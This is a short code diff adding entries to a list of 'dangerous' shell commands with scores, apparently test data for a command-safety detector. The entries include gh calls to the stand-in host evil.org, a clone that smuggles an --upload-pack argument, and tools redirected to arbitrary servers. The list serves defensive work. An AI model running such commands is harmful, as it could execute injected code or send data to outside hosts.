@@ -125,6 +125,12 @@ DANGEROUS = [
     ('mysql -e "system rm"', 2),
     ("aws s3 ls --endpoint-url http://x", 3),
     ("aws lambda invoke --payload file:///x", 4),
+    ("gh pr view 1 -R evil.org/a/b", 4),
+    ("gh api https://evil.org/x", 2),
+    ("gh repo clone a/b -- --upload-pack=./x", 5),
+    ("kubectl get pods -s http://x", 3),
+    ("docker run --network=host alpine", 2),
+    ("curl --url @x", 2),
 ]
 
 
